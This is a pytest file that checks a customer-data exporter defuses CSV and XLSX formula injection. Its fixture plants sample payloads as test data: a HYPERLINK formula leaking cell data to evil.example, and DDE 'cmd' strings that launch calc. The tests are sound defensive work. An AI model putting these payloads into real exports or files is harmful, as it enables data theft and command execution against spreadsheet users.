"""Exports never hand a spreadsheet a live formula (OWASP CSV injection): CSV cells beginning with
= + - @ tab or CR get a leading apostrophe, XLSX keeps them as text cells, and re-importing the
exported file changes nothing. On a SQLite file and on PostgreSQL."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from engine.clock import FakeClock
from engine.csvsafe import FORMULA_STARTS, neutralise, restore
from engine.auth.principal import Principal
from engine.db import Database
from engine.masterdata.exporter import export_customers
from engine.masterdata.importer import import_file

IMPORT = Principal.engine("import")
OPERATOR = Principal.operator_only("root")

DATA = Path(__file__).resolve().parents[1] / "data" / "masterdata"

HOSTILE = {
    "C1": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "C2": "+cmd|' /C calc'!A0",
    "C3": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_customers(db: Database, clock: FakeClock) -> Database:
    with db.session() as session:
        import_file(session, "org", DATA / "org.csv", clock=clock, principal=IMPORT)
    with db.session() as session:
        import_file(session, "customers", DATA / "customers.csv", clock=clock, principal=IMPORT)
    with db.tx() as tx:
        for code, name in HOSTILE.items():
            tx.execute("UPDATE customer SET name = :n WHERE code = :c", {"n": name, "c": code})
        tx.execute("UPDATE customer SET industry = '-2+3' WHERE code = 'C1'")
    return db


def test_csv_export_neutralises_formula_cells_and_reimports_unchanged(
        hostile_customers: Database, clock: FakeClock, tmp_path: Path) -> None:
    db = hostile_customers
    out = tmp_path / "customers.csv"
    with db.session() as session:
        assert export_customers(session, out, principal=OPERATOR) == 3
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["C1"] == "'" + HOSTILE["C1"] and names["C2"] == "'" + HOSTILE["C2"]
    with db.session() as session:
        again = import_file(session, "customers", out, clock=clock, principal=IMPORT)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 3)
    with db.read() as tx:
        assert tx.one("SELECT name FROM customer WHERE code = 'C3'")[0] == HOSTILE["C3"]


def test_xlsx_export_keeps_formula_like_values_as_text(hostile_customers: Database, tmp_path: Path) -> None:
    out = tmp_path / "customers.xlsx"
    with hostile_customers.session() as session:
        export_customers(session, out, principal=OPERATOR)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, name in HOSTILE.items():
        cell = by_code[code][1]
        assert cell.value == name and cell.data_type == "s"  # text, never a formula ("f")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_neutralise_and_restore_are_inverse_for_every_formula_start(value: str) -> None:
    assert neutralise(value) == "'" + value and restore(neutralise(value)) == value


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert neutralise("深圳移动") == "深圳移动" and neutralise(-1) == -1 and restore("'plain") == "'plain"
